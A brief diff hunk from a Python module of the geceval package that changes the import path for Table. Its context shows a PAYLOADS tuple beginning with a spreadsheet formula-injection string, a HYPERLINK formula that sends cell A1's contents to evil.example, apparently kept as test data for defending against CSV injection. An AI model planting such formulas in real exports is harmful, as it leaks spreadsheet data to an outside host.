@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from geceval.tables import Table
+from geceval.presentation.table import Table
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example?"&A1,"click")',
